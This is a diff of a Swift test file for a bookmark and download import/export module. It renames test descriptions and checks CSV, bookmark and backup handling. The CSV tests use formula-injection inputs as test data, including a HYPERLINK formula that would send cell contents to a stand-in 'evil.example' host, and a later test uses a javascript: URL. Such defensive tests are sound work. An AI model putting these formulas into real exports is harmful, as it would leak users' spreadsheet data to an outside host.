@@ -8,7 +8,7 @@ import WHATWGURL
 
 @testable import ImportExport
 
-@Suite("What leaves and comes back")
+@Suite("Export and import")
 struct ImportExportTests {
     private let hostile = "a \"quoted\", <b>&amp; word\r\nand a line; =1+1"
 
@@ -52,7 +52,7 @@ struct ImportExportTests {
         return bytes + Backup.closing
     }
 
-    @Test("A backup comes back whole, one entry a line")
+    @Test("A backup is imported completely, and has one entry per line")
     func backup() throws {
         var paused = try item()
         paused.state = .paused
@@ -71,7 +71,7 @@ struct ImportExportTests {
         #expect(download.isPaused && download.item == paused.request)
     }
 
-    @Test("Without being asked for, no secret leaves")
+    @Test("Secrets are exported only on request")
     func credentials() throws {
         let text = String(decoding: try backup([try item()], hasCredentials: false), as: UTF8.self)
         #expect(text.contains("https://example.org/f.bin"))
@@ -81,7 +81,7 @@ struct ImportExportTests {
         #expect(download.referer == "https://example.org/" && download.startAt == original.startAt)
     }
 
-    @Test("Bookmarks come back with times, tags and notes")
+    @Test("Exported bookmarks keep their times, tags and notes")
     func bookmarks() throws {
         let bytes =
             BookmarksFile.opening + BookmarksFile.entry(try place(), address: "https://example.org/a?x=1&y=2#:~:text=a")
@@ -95,7 +95,7 @@ struct ImportExportTests {
         #expect(place.snapshot.title == "a \"quoted\", <b>&amp; word\nand a line; =1+1")
     }
 
-    @Test("Bookmarks of browsers are read, folders and scripts passed over")
+    @Test("Bookmarks of browsers are imported; folders and scripts are skipped")
     func browserBookmarks() throws {
         let text = """
             <!DOCTYPE NETSCAPE-Bookmark-file-1>
@@ -111,7 +111,7 @@ struct ImportExportTests {
         #expect(contents.newPlaces[1].marks.tags == ["a", "b"] && contents.newPlaces[1].marks.note == "A note")
     }
 
-    @Test("A table of quotes comes back, also with other columns")
+    @Test("An exported table of quotes is imported, even with other columns")
     func table() throws {
         let bytes = CSVFile.opening + CSVFile.row(try place())
         #expect(ImportExportFormat.sniff(bytes) == .csv)
@@ -125,7 +125,7 @@ struct ImportExportTests {
     }
 
     @Test(
-        "No field of a table is a formula for a spreadsheet, and each comes back as it was",
+        "No field of a table is a formula for a spreadsheet, and each is imported unchanged",
         arguments: [
             "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
             "＝1", "-",
@@ -151,7 +151,7 @@ struct ImportExportTests {
     }
 
     @Test(
-        "A table or a file of bookmarks that was cut off is refused whole",
+        "A truncated table or bookmarks file is refused as a whole",
         arguments: [
             "URL,Title\nhttps://a.example/,One\nhttps://b.example/,\"Tw", "URL,Title\nhttps://a.example/,\"",
             "URL,Note\nhttps://a.example/,\"he said \"\"yes\"\"",
@@ -159,13 +159,13 @@ struct ImportExportTests {
             "<!DOCTYPE NETSCAPE-Bookmark-file-1><DL><p><DT><A HREF=\"https://a.example/\">One</A><DT><A HREF=\"https://b.example/\">Tw",
             "<!DOCTYPE NETSCAPE-Bookmark-file-1><DL><p><DT><A HREF=\"https://a.example/\">One</A",
         ])
-    func cutOff(text: String) {
+    func truncated(text: String) {
         let error = #expect(throws: ImportExportError.self) { try BackupContents(Array(text.utf8)) }
         #expect(error?.description.hasSuffix("its end is missing") == true)
     }
 
     @Test(
-        "A quotation mark that is closed at the very end, and a title without an end tag before another, are whole",
+        "A file that ends with a closing quotation mark, and a title without an end tag, are not truncated",
         arguments: [
             ("URL,Title\nhttps://a.example/,\"One\"", 1), ("URL,Title\nhttps://a.example/,a \" mark", 1),
             (
@@ -173,12 +173,12 @@ struct ImportExportTests {
                     + "<DT><A HREF=\"https://b.example/\">Two</DL>", 2
             ),
         ])
-    func whole(text: String, count: Int) throws {
+    func complete(text: String, count: Int) throws {
         #expect(try BackupContents(Array(text.utf8)).newPlaces.count == count)
     }
 
     @Test(
-        "What is none of these is refused with its reason",
+        "Any other file is refused with the reason",
         arguments: [
             "", "hello", "{}", "[1]", "{\"leftoff\":99}", "{\"leftoff\":1,\"places\":[{}]}",
             "{\"leftoff\":1,\"queue\":[{\"url\":\"javascript:x\",\"state\":\"ready\"}]}", "{\"leftoff\":1",
